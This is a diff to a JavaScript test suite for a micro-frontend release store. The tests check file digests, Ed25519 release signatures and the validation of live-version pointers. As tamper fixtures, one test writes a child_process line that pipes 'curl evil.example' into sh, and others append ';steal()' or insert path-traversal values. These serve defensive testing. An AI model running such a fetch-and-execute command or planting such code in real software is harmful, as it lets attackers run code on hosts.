@@ -2,6 +2,8 @@
 // temporary store (the e2e suite releases, promotes and rolls back real builds over the running system).
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
+import crypto from 'node:crypto';
+import zlib from 'node:zlib';
 import fs from 'node:fs';
 import { createRequire } from 'node:module';
 import os from 'node:os';
@@ -127,6 +129,208 @@ describe('the release store', () => {
   });
 });
 
+describe('what a release is: its files, as released', () => {
+  const tamper = (releases, version, file, text) => fs.writeFileSync(path.join(releases, 'catalog', version, file), text);
+
+  test('a release records the SHA-256 of every file it stores, as Subresource Integrity writes it', () => {
+    const releases = temporary('releases');
+    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa', distDir('first'));
+    const { digests } = store.readRelease(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    assert.deepEqual(Object.keys(digests), ['mf-manifest.json', 'remoteEntry.js', 'server/mf-manifest.json', 'server/remoteEntry.js']);
+    const sha256 = (file) => `sha256-${crypto.createHash('sha256').update(fs.readFileSync(path.join(dir, file))).digest('base64')}`;
+    for (const [file, digest] of Object.entries(digests)) assert.equal(digest, sha256(file), file);
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), []);
+
+    // the compressed copies the static server keeps beside a file are checked by what they decode to
+    fs.writeFileSync(path.join(dir, 'remoteEntry.js.br'), zlib.brotliCompressSync(fs.readFileSync(path.join(dir, 'remoteEntry.js'))));
+    fs.writeFileSync(path.join(dir, 'remoteEntry.js.gz'), zlib.gzipSync('alert("not the entry")'));
+    fs.writeFileSync(path.join(dir, 'stray.js.br'), zlib.brotliCompressSync('alert(1)'));
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), [
+      'remoteEntry.js.gz: does not decode to the released remoteEntry.js',
+      'stray.js.br: not a file of the release',
+    ]);
+  });
+
+  test('a changed, missing or added file is named, and such a version is never made live (promote, rollback)', () => {
+    const releases = temporary('releases');
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    release(releases, '1.0.0-bbbbbbbbbbbb');
+    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb');
+
+    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'server/remoteEntry.js', 'require("child_process").exec("curl evil.example | sh")');
+    fs.rmSync(path.join(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', 'remoteEntry.js'));
+    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'extra.js', 'alert(1)');
+    const problems = store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    assert.equal(problems.length, 3, problems.join('\n'));
+    assert.match(problems[0], /^remoteEntry\.js: missing$/);
+    assert.match(problems[1], /^server\/remoteEntry\.js: its contents are not the ones released \(sha256 \S+, released \S+\)$/);
+    assert.match(problems[2], /^extra\.js: not a file of the release$/);
+    assert.throws(() => store.rollback(releases, 'catalog'), store.TamperedRelease);
+
+    tamper(releases, '1.0.0-bbbbbbbbbbbb', 'mf-manifest.json', '{"name":"catalog","exposes":[],"shared":[]}');
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb'), /catalog 1\.0\.0-bbbbbbbbbbbb: its files do not match its release record; the live version is unchanged:\n {2}mf-manifest\.json: its contents are not the ones released/);
+    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-bbbbbbbbbbbb', 'the pointer is untouched');
+  });
+
+  test('a version whose record has no digests (or is not a record) is refused', () => {
+    const releases = temporary('releases');
+    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa');
+    const info = JSON.parse(fs.readFileSync(path.join(dir, 'release.json'), 'utf8'));
+    delete info.digests;
+    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify(info));
+    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /records no digests of its files/);
+    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify({ ...info, digests: { '../../host-shell/dist/index.html': 'x' } }));
+    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /release\.json is not valid: digests/);
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), store.TamperedRelease);
+  });
+
+  test("live.json is checked when read, as when written: a version that is not one never reaches the host's URLs", () => {
+    const releases = temporary('releases');
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    const pointer = path.join(releases, 'catalog', 'live.json');
+    const good = JSON.parse(fs.readFileSync(pointer, 'utf8'));
+    const env = { RELEASES_DIR: releases, REMOTE_CATALOG_URL: 'https://cdn.example/catalog' };
+    for (const live of ['../../evil.example/x', 'https://evil.example/', '1.0.0-a?x=', 42]) {
+      fs.writeFileSync(pointer, JSON.stringify({ ...good, live }));
+      assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not valid: live:/, String(live));
+      assert.deepEqual(store.liveVersions(releases), {});
+      assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/mf-manifest.json', String(live));
+    }
+    fs.writeFileSync(pointer, '{"live": "1.0.0-aaaaaaaaaaaa"');
+    assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not JSON/);
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), /live\.json is not JSON/, 'a pointer that is not one is not built upon');
+    fs.writeFileSync(pointer, JSON.stringify(good));
+    assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/mf-manifest.json');
+  });
+});
+
+describe('release signatures (Ed25519 over the digest list)', () => {
+  const signing = require('../tooling/src/release/signing.cjs');
+  const pem = (key) => key.export({ type: key.type === 'private' ? 'pkcs8' : 'spki', format: 'pem' });
+  const team = crypto.generateKeyPairSync('ed25519');
+  const rewrite = (dir, change) => {
+    const file = path.join(dir, 'release.json');
+    fs.writeFileSync(file, JSON.stringify(change(JSON.parse(fs.readFileSync(file, 'utf8')))));
+  };
+
+  test('a release is signed (off production, with the development key made once in RELEASE_KEYS_DIR) and checks', () => {
+    const keys = temporary('keys');
+    const env = { RELEASE_KEYS_DIR: keys };
+    const releases = temporary('releases');
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    const { dir } = store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist: distDir(), packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey(env) });
+    const { signature } = store.readRelease(releases, 'catalog', '1.0.0-bbbbbbbbbbbb');
+    assert.equal(signature.algorithm, 'ed25519');
+    assert.equal(signature.development, true);
+    assert.deepEqual(fs.readdirSync(keys).sort(), ['development.key.pem', 'development.pub.pem']);
+    assert.equal(fs.statSync(path.join(keys, 'development.key.pem')).mode & 0o077, 0, 'the private key is its owner\'s alone');
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), []);
+    assert.equal(signature.key, signing.keyIdOf(signing.verifyingKey('catalog', env)), 'the same key pair, read again');
+    // another machine's development key is another key
+    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', env)[0], /^catalog 1\.0\.0-aaaaaaaaaaaa is signed with key [0-9a-f]{16}, not catalog's \([0-9a-f]{16}\)$/);
+
+    // one who can write the store changes a file and its digest: the signature no longer matches
+    fs.appendFileSync(path.join(dir, 'remoteEntry.js'), ';steal()');
+    rewrite(dir, (info) => ({ ...info, digests: { ...info.digests, 'remoteEntry.js': store.digestOf(fs.readFileSync(path.join(dir, 'remoteEntry.js'))) } }));
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), ['catalog 1.0.0-bbbbbbbbbbbb: its signature does not match its digests']);
+    rewrite(dir, ({ signature: _gone, ...info }) => info);
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), ['catalog 1.0.0-bbbbbbbbbbbb is not signed']);
+  });
+
+  test("production: signed with the team's key only, checked with the remote's public key only; the development key is refused", () => {
+    const keys = temporary('keys');
+    const releases = temporary('releases');
+    const production = { NODE_ENV: 'production', RELEASE_KEYS_DIR: keys };
+    assert.throws(() => signing.signingKey(production), /RELEASE_SIGNING_KEY is not set/);
+    assert.throws(() => signing.developmentKeys(production), /never used with NODE_ENV=production/);
+    assert.throws(() => signing.signingKey({ ...production, RELEASE_SIGNING_KEY: 'not a key' }), /RELEASE_SIGNING_KEY is not a private key/);
+    const rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 1024 });
+    assert.throws(() => signing.signingKey({ ...production, RELEASE_SIGNING_KEY: pem(rsa.privateKey) }), /is a rsa key: releases are signed with Ed25519/);
+
+    const key = signing.signingKey({ ...production, RELEASE_SIGNING_KEY: pem(team.privateKey) });
+    assert.equal(key.development, false);
+    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-aaaaaaaaaaaa', dist: distDir(), packageVersion: '1.0.0', inputHash: 'a'.repeat(64), key });
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', production), ["no public key to check catalog's releases with: set REMOTE_CATALOG_PUBLIC_KEY"]);
+    const teamDer = team.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
+    const withKey = { ...production, REMOTE_CATALOG_PUBLIC_KEY: teamDer };
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', withKey), []);
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), store.TamperedRelease, 'this machine checks with its development key');
+
+    // a version signed with a development key, even one production was (wrongly) given the public half of
+    const development = { RELEASE_KEYS_DIR: keys };
+    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist: distDir(), packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey(development) });
+    const developmentPublic = fs.readFileSync(path.join(keys, 'development.pub.pem'), 'utf8');
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', { ...production, REMOTE_CATALOG_PUBLIC_KEY: developmentPublic }), [
+      'catalog 1.0.0-bbbbbbbbbbbb is signed with a development key, which production refuses',
+    ]);
+    assert.match(signing.productionKeyProblem(['catalog'], production), /^REMOTE_CATALOG_PUBLIC_KEY is not set/);
+    assert.match(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: developmentPublic }), /is this machine's development key/);
+    assert.match(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: 'nope' }), /REMOTE_CATALOG_PUBLIC_KEY is not a public key/);
+    assert.equal(signing.productionKeyProblem(['catalog'], withKey), null);
+  });
+
+  test("the host tells the browser each live release's entry digests, refuses a release its key did not sign, and in production will not start without each remote's key", async () => {
+    const { startServe } = await import('./lib/serve-process.mjs');
+    const keys = temporary('keys');
+    const releases = temporary('releases');
+    const hostDir = temporary('host');
+    fs.writeFileSync(path.join(hostDir, 'index.html'), '<!doctype html><title>t</title>');
+    const teamDer = team.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
+    const teamKey = { privateKey: team.privateKey, development: false };
+    const dist = distDir();
+    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-aaaaaaaaaaaa', dist, packageVersion: '1.0.0', inputHash: 'a'.repeat(64), key: teamKey });
+    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist, packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey({ RELEASE_KEYS_DIR: keys }) });
+    const env = { RELEASES_DIR: releases, RELEASE_KEYS_DIR: keys, REMOTE_CATALOG_URL: 'https://cdn.example/catalog', REMOTE_CATALOG_PUBLIC_KEY: teamDer };
+    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', new Date(), env);
+
+    const host = await startServe({ dir: hostDir, args: ['--runtime-config'], env });
+    try {
+      const integrity = async () => (await fetch(`${host.url}/remote-integrity.json`)).json();
+      const { digests } = store.readRelease(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+      assert.deepEqual(await integrity(), {
+        catalog: { base: 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/', digests: { 'mf-manifest.json': digests['mf-manifest.json'], 'remoteEntry.js': digests['remoteEntry.js'] } },
+      });
+      // a pointer moved to a version this key did not sign (by hand: promote refuses it): nothing of it may run
+      fs.writeFileSync(path.join(releases, 'catalog', 'live.json'), JSON.stringify({ ...store.readPointer(releases, 'catalog'), live: '1.0.0-bbbbbbbbbbbb' }));
+      assert.deepEqual(await integrity(), { catalog: { base: 'https://cdn.example/catalog/1.0.0-bbbbbbbbbbbb/', digests: {}, refused: true } });
+    } finally {
+      await host.stop();
+    }
+
+    const production = {
+      ...env,
+      NODE_ENV: 'production',
+      FIREBASE_API_KEY: 'AIzaSy-production-key',
+      FIREBASE_PROJECT_ID: 'utsav-prod',
+      FIREBASE_AUTH_DOMAIN: 'utsav-prod.firebaseapp.com',
+      API_PUBLIC_URL: 'https://api.utsav.example',
+      PAYMENT_CHECKOUT_URL: 'https://checkout.razorpay.com/v1/checkout.js',
+      REMOTE_BOOKING_URL: 'https://cdn.example/booking',
+      REMOTE_CHECKOUT_URL: 'https://cdn.example/checkout',
+      REMOTE_ACCOUNT_URL: 'https://cdn.example/account',
+      REMOTE_BOOKING_PUBLIC_KEY: teamDer,
+      REMOTE_CHECKOUT_PUBLIC_KEY: teamDer,
+      REMOTE_ACCOUNT_PUBLIC_KEY: teamDer,
+    };
+    const serve = (changes) =>
+      spawnSync(process.execPath, [path.join(ROOT, 'tooling/src/serve.cjs'), '--dir', hostDir, '--port', '0', '--runtime-config'], {
+        env: { PATH: process.env.PATH, ...Object.fromEntries(Object.entries({ ...production, ...changes }).filter(([, value]) => value !== undefined)) },
+        encoding: 'utf8',
+        timeout: 10_000,
+      });
+    const missing = serve({ REMOTE_ACCOUNT_PUBLIC_KEY: undefined });
+    assert.equal(missing.status, 1);
+    assert.match(missing.stderr, /refusing to start with NODE_ENV=production: REMOTE_ACCOUNT_PUBLIC_KEY is not set/);
+    const development = serve({ REMOTE_BOOKING_PUBLIC_KEY: fs.readFileSync(path.join(keys, 'development.pub.pem'), 'utf8') });
+    assert.equal(development.status, 1);
+    assert.match(development.stderr, /REMOTE_BOOKING_PUBLIC_KEY is this machine's development key/);
+    const started = await startServe({ dir: hostDir, args: ['--runtime-config'], env: production });
+    await started.stop();
+  });
+});
+
 describe('the compatibility gate', () => {
   test('a build like the host passes (a module the host does not share, like the form library, is the remote\'s own)', () => {
     assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate: catalogBuild(), host: HOST }), []);
@@ -210,5 +414,20 @@ describe('the release commands', () => {
     assert.equal(run(releases, 'rollback', 'catalog', '--host', host).status, 1, 'nothing before the first version');
     assert.equal(run(releases, 'promote', 'payments', '1.0.0-aaaaaaaaaaaa').stderr.trim(), 'unknown remote "payments": one of catalog, booking, checkout, account');
     assert.equal(run(releases, 'check', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', releases).stderr.trim(), `${releases} is not a built host: it needs mf-manifest.json and remote-pages.json`);
+  });
+
+  test('the gate and promote refuse a version with a tampered file, naming it', () => {
+    const releases = temporary('releases');
+    const host = hostDist();
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    release(releases, '1.0.0-bbbbbbbbbbbb');
+    assert.equal(run(releases, 'promote', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', host).status, 0);
+    fs.appendFileSync(path.join(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', 'server', 'remoteEntry.js'), ';globalThis.owned = true');
+    for (const command of ['check', 'promote']) {
+      const refused = run(releases, command, 'catalog', '1.0.0-bbbbbbbbbbbb', '--host', host);
+      assert.equal(refused.status, 1, command);
+      assert.match(refused.stderr, /its files do not match its release record; the live version is unchanged:\n {2}server\/remoteEntry\.js: its contents are not the ones released/, command);
+    }
+    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-aaaaaaaaaaaa');
   });
 });
